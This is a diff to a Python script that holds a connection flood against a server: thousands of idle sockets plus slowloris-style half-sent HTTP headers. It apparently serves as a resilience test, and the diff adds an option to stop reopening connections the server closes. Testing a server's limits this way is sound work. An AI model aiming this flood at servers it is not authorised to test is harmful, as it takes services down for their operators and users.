@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
 """Holds a connection flood against a server: IDLE connections that never send a
 byte and HALF half-sent ones that trickle a header byte every second (slowloris).
-A connection the server closes is opened again a second later, so the pressure
-holds for the whole run. Prints what it held and how many the server closed.
-Usage: flood.py HOST PORT SECONDS [IDLE=2000] [HALF=200]
+With REOPEN (the default) a connection the server closes is opened again a
+second later, so the pressure holds for the whole run; with REOPEN=0 what the
+server closes stays closed. Prints what it held and how many the server closed.
+Usage: flood.py HOST PORT SECONDS [IDLE=2000] [HALF=200] [REOPEN=1]
 """
 import selectors
 import socket
@@ -13,6 +14,7 @@ import time
 host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
 idle = int(sys.argv[4]) if len(sys.argv) > 4 else 2000
 half = int(sys.argv[5]) if len(sys.argv) > 5 else 200
+reopen = (sys.argv[6] if len(sys.argv) > 6 else "1") != "0"
 HEADER = b"POST /affinity/query HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\nX-Slow: "
 
 sel = selectors.DefaultSelector()
@@ -52,7 +54,10 @@ while time.time() < end:
             sel.unregister(s)
             s.close()
             closed += 1
-            slots[slot] = time.time() + 1
+            if reopen:
+                slots[slot] = time.time() + 1
+            else:
+                del slots[slot]
     now = time.time()
     for slot, v in list(slots.items()):
         if isinstance(v, float) and v <= now:
@@ -68,4 +73,4 @@ while time.time() < end:
                     pass
 held = sum(1 for v in slots.values() if not isinstance(v, float))
 print(f"flood: {idle} idle + {half} half-sent; {held_at_start} open at start, {held} at the end, "
-      f"{closed} closed by the server and opened again")
+      f"{closed} closed by the server" + (" and opened again" if reopen else ""))
